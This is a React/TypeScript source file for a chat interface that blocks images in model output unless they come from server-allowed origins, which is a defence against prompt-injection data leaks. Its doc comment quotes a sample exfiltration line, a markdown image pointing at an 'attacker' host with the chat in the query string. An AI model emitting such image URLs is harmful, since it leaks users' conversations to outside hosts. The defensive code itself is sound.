import { createContext, use } from 'react';

/**
 * The origins answer images may load from: the server's IMAGE_HOSTS (`GET /api/chat/config/web`).
 * Empty until the server has said, so nothing loads before it does.
 */
export const ImageOriginsContext = createContext<readonly string[]>([]);

export type ImageVerdict =
  | { load: true; url: string }
  | {
      load: false;
      /** The host the image would have come from (`attacker.example:8080`); null for none. */
      host: string | null;
      /** An http(s) URL a person may open on purpose; null when there is none to open. */
      href: string | null;
    };

/**
 * Whether an image in model output may load. Loading an image is a request the reader never
 * asked for, and its URL can carry anything the answer holds (a prompt-injected answer writes
 * `![x](https://attacker/?leak=<the chat>)`), so an image loads only from an allowed origin, or
 * from a `data:image/…` URL, which carries its bytes and sends no request. Everything else —
 * other hosts, this app's own origin, `blob:` — is shown as a placeholder instead.
 */
export function judgeImage(
  src: string | undefined,
  allowedOrigins: readonly string[],
): ImageVerdict {
  const refused = { load: false, host: null, href: null } as const;
  if (src === undefined || src === '') return refused;
  let url: URL;
  try {
    url = new URL(src, window.location.href);
  } catch {
    return refused;
  }
  if (url.protocol === 'data:')
    return /^data:image\//i.test(src) ? { load: true, url: src } : refused;
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return refused;
  if (allowedOrigins.includes(url.origin)) return { load: true, url: url.href };
  return { load: false, host: url.host, href: url.href };
}

/**
 * An image of model output: the image when `judgeImage` allows it, else a placeholder naming
 * where it would have come from, a link the reader may open on purpose. No `<img>` is created
 * for a refused image, so the browser never requests it.
 */
export function AnswerImage({ src, alt }: { src: string | undefined; alt: string | undefined }) {
  const verdict = judgeImage(src, use(ImageOriginsContext));
  if (verdict.load) {
    return <img src={verdict.url} alt={alt ?? ''} loading="lazy" referrerPolicy="no-referrer" />;
  }
  return <BlockedImage host={verdict.host} href={verdict.href} alt={alt} />;
}

function BlockedImage({
  host,
  href,
  alt,
}: {
  host: string | null;
  href: string | null;
  alt: string | undefined;
}) {
  const label = `Image${host === null ? '' : ` from ${host}`} not loaded${alt ? `: ${alt}` : ''}`;
  const title = 'Answers show images only from hosts this server allows';
  return href === null ? (
    <span className="blocked-image" data-testid="blocked-image" title={title}>
      {label}
    </span>
  ) : (
    <a
      className="blocked-image"
      data-testid="blocked-image"
      data-host={host ?? undefined}
      href={href}
      target="_blank"
      rel="noreferrer noopener"
      title={title}
    >
      {label}
    </a>
  );
}
